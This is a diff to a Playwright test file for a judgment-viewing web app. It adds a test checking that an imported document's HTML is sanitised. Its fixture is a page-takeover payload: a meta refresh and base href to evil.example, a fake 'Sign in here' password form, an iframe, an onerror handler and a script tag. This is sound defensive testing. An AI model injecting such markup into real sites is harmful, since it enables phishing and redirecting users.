@@ -1,13 +1,13 @@
 import { spawn } from 'node:child_process';
 import { once } from 'node:events';
-import { mkdtemp, rm } from 'node:fs/promises';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { expect, type Page, test } from '@playwright/test';
 import Database from 'better-sqlite3';
 import { expectAccessible, watchConsole, watchLayoutShift } from './support/screens.js';
-import { startServer, type TestServer } from './support/test-server.js';
+import { importInto, startServer, type TestServer } from './support/test-server.js';
 import { expectToast } from './support/toasts.js';
 
 let server: TestServer;
@@ -195,6 +195,38 @@ test('E6: the text of a document has a stacking context of its own, no style and
   const text = page.locator('.hn-document');
   expect(await text.evaluate((element) => getComputedStyle(element).isolation)).toBe('isolate');
   await expect(text.locator('[style], style, form, iframe, base, meta, link, input, button')).toHaveCount(0);
+});
+
+/** Text that tries to cover the page, ask for a password and lead the reader away. */
+const TAKEOVER = `<style>body{display:none}</style><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/beacon)">Your session ended.</div>
+<form action="https://evil.example/"><input name="password"><button>Sign in here</button></form>
+<iframe src="https://evil.example/"></iframe><img src="https://evil.example/i.png" onerror="document.title='taken'">
+<svg><foreignObject><form action="https://evil.example/"></form></foreignObject></svg>
+<script>document.title = 'taken'</script><p>The appeal is dismissed.</p>`;
+
+test('E6: an imported judgment that tries to take over the page shows its words and does nothing', async ({ page }) => {
+  const file = join(dataDir, 'takeover.jsonl');
+  await writeFile(file, JSON.stringify({ id: 'takeover', title: 'Evil v. Example', html: TAKEOVER }));
+  await importInto(dataDir, 'documents', [file]);
+  const database = new Database(join(dataDir, 'headnote.db'), { readonly: true });
+  const imported = database.prepare(`select house_citation from documents where appellant = 'Evil'`).get();
+  database.close();
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith(server.url)) foreign.push(request.url());
+  });
+  await page.goto(address(imported as Judgment));
+  const text = page.locator('.hn-document');
+  await expect(text).toContainText('The appeal is dismissed.');
+  await expect(page.locator('.site-house')).toHaveCount(3);
+  await expect(text.locator('[style], style, form, iframe, base, meta, svg, img, script, input, button')).toHaveCount(
+    0,
+  );
+  await expect(page).toHaveTitle(/^Evil Versus Example/);
+  expect(page.url()).toBe(address(imported as Judgment));
+  expect(foreign).toEqual([]);
 });
 
 test.describe('without script', () => {
